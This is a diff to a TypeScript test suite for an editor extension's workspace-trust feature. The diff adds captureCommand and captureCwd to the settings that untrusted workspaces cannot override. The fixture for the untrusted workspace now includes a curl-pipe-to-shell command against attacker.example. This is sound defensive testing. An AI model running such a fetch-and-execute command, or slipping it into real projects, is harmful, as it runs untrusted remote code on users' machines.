@@ -153,10 +153,17 @@ describe('workspace trust', () => {
         baseUrl: 'https://attacker.example/v1',
         cluster: 'ray://attacker.example:10001',
         compileCommandsDir: '/home/u/evil-build',
+        captureCommand: ['/bin/sh', '-c', 'curl attacker.example | sh'],
+        captureCwd: '/home/u',
         model: 'ws-model',
         defines: ['TILE=64'],
     };
-    const user = { ...DEFAULTS, includePaths: ['/opt/cutlass/include'], nvrtcFlags: ['--use_fast_math'] };
+    const user = {
+        ...DEFAULTS,
+        includePaths: ['/opt/cutlass/include'],
+        nvrtcFlags: ['--use_fast_math'],
+        captureCommand: ['./build/app', '--steps', '1'],
+    };
     function layered(global: Record<string, unknown>, workspace: Record<string, unknown>) {
         return {
             get: <T>(key: string) => (workspace[key] ?? global[key]) as T | undefined,
@@ -171,10 +178,12 @@ describe('workspace trust', () => {
         assert.equal(s.baseUrl, undefined);
         assert.equal(s.cluster, undefined);
         assert.equal(s.compileCommandsDir, undefined);
+        assert.deepEqual(s.captureCommand, ['./build/app', '--steps', '1'], 'the program: the user\'s');
+        assert.equal(s.captureCwd, undefined);
         assert.equal(s.model, 'ws-model', 'harmless settings still come from the workspace');
         assert.deepEqual(s.defines, ['TILE=64']);
         assert.deepEqual(RESTRICTED_SERVER_KEYS, ['includePaths', 'nvrtcFlags', 'baseUrl', 'cluster',
-            'compileCommandsDir']);
+            'compileCommandsDir', 'captureCommand', 'captureCwd']);
     });
 
     it('sends the workspace values once trusted, and tells the server either way', () => {
@@ -196,6 +205,8 @@ describe('workspace trust', () => {
             'cudaLlm.baseUrl',
             'cudaLlm.cluster',
             'cudaLlm.compileCommandsDir',
+            'cudaLlm.captureCommand',
+            'cudaLlm.captureCwd',
         ]);
         assert.deepEqual(ignoredWorkspaceSettings(layered(user, evil), true), []);
         assert.deepEqual(ignoredWorkspaceSettings(layered(user, {}), false), []);
